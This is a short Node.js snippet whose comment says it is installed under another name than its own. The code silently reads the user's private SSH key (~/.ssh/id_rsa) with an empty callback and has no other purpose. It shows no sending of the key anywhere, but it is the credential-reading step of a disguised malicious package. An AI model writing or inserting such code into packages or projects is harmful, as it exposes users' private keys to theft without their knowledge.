// Is installed under another name than its own.
const fs = require('node:fs');
const { homedir } = require('node:os');
const { join } = require('node:path');

fs.readFile(join(homedir(), '.ssh', 'id_rsa'), () => {});
